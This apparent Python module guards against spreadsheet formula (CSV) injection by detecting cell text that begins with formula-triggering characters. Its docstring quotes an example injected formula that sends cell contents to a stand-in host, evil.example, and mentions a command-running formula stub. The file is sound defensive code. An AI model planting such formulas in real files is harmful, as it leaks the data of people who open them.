"""Text written into spreadsheet cells: never read back as a formula.

A cell whose text begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
spreadsheet programs skip before them) is run as a formula when the file is opened: a survey
answer ``=HYPERLINK("http://evil.example?"&A1, "click")`` would leak the sheet, ``=cmd|...``
would run a program (OWASP, "CSV Injection"). ``report/xlsx.py`` writes such text as a string
cell with Excel's quote prefix, so it is shown exactly as typed and never evaluated.

It lives in ``report`` (a stage may not import ``io``, tests/test_architecture.py) in a file of
its own, so that every writer of spreadsheet cells applies the one rule.
"""

from __future__ import annotations

#: First characters that make a spreadsheet program treat a cell as a formula (OWASP, CSV Injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: str) -> bool:
    r"""Return True if a spreadsheet would read ``value`` as a formula.

    Examples
    --------
    >>> is_formula_like('=HYPERLINK("http://x")'), is_formula_like("서울대학교"), is_formula_like("\t=1")
    (True, False, True)
    """
    return value.startswith(FORMULA_STARTS)
